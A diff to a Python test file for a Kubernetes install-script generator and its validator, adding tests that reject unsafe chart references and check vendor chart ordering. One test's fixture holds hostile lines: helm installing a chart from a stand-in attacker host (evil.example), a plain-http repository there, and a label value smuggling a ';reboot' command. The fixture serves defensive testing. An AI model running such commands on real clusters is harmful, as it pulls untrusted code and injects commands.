@@ -13,7 +13,7 @@ from django.core.management import CommandError, call_command
 from catalog.engine.profile import Profile
 from evaluations.configgen.generate import generate
 from evaluations.configgen.install import INSTALL_SCRIPT, check_install_script
-from evaluations.configgen.model import DecisionFacts, GeneratedFile
+from evaluations.configgen.model import Chart, DecisionFacts, GeneratedFile, RowFacts
 from evaluations.configgen.schemas import check_files
 from evaluations.management.commands.seed_demo_team import INFERENCE, TRAINING
 from evaluations.models import Evaluation
@@ -136,19 +136,66 @@ def test_a_project_without_a_verified_chart_is_left_to_its_documentation():
     assert not any("opencost" in " ".join(c) for c in _commands(script))
 
 
-def test_the_check_refuses_an_unknown_chart_and_an_unquoted_word():
+def test_the_check_refuses_what_is_not_a_chart_reference_and_an_unquoted_word():
+    """The shapes a catalog row may state (bundle schema, placement `config.helm`): a chart file
+    by URL, a plain-http repository and a command in a word are not among them."""
     script = GeneratedFile(
         "install.sh",
         INSTALL_SCRIPT,
         [],
-        text="#!/bin/sh\nset -eu\nhelm upgrade --install x evil/chart\n"
+        text="#!/bin/sh\nset -euf\n"
+        "helm upgrade --install x https://evil.example/chart.tgz\n"
+        "helm repo add --force-update evil http://evil.example/charts\n"
         "kubectl label node n a=b;reboot\n",
     )
 
     problems = check_install_script(script)
 
-    assert any("not a chart EcoMap knows" in p for p in problems)
+    assert any("line 3: not a chart reference" in p for p in problems)
+    assert any("line 4: not a chart repository URL" in p for p in problems)
     assert any("'a=b;reboot' is not quoted" in p for p in problems)
+
+
+def test_a_vendors_project_whose_row_states_its_chart_is_installed_after_the_known_ones():
+    """Charts are catalog data: a project imported with `config.helm` is installed from it, at
+    its row's version, after the operators, device plugins and schedulers EcoMap orders."""
+    vendor = RowFacts(
+        ref="acme-scheduler/scheduler",
+        layer="control_plane",
+        version="1.2.3",
+        chart=Chart.of(
+            {
+                "helm": {
+                    "chart": "acme/acme-scheduler",
+                    "repository": "https://charts.acme.example/stable",
+                    "release": "acme",
+                    "namespace": "acme-system",
+                },
+                "evidence": ["https://docs.acme.example/1.2.3/install"],
+            }
+        ),
+    )
+    facts = DecisionFacts(
+        evaluation_id=3,
+        rows=(*(row_facts(ref) for ref in INFERENCE["candidates"]), vendor),
+        profile=Profile.from_dict(INFERENCE["profile"]),
+    )
+    files = generate(facts)
+    assert check_files(files) == []
+    commands = _commands(next(f for f in files if f.kind == INSTALL_SCRIPT))
+    installs = [c[3] for c in commands if c[:3] == ["helm", "upgrade", "--install"]]
+
+    assert installs == ["gpu-operator", "hami", "kueue", "acme"]
+    acme = next(c for c in commands if c[:4] == ["helm", "upgrade", "--install", "acme"])
+    assert acme[4:7] == ["acme/acme-scheduler", "--version", "1.2.3"]
+    assert [
+        "helm",
+        "repo",
+        "add",
+        "--force-update",
+        "acme",
+        "https://charts.acme.example/stable",
+    ] in commands
 
 
 @pytest.mark.django_db
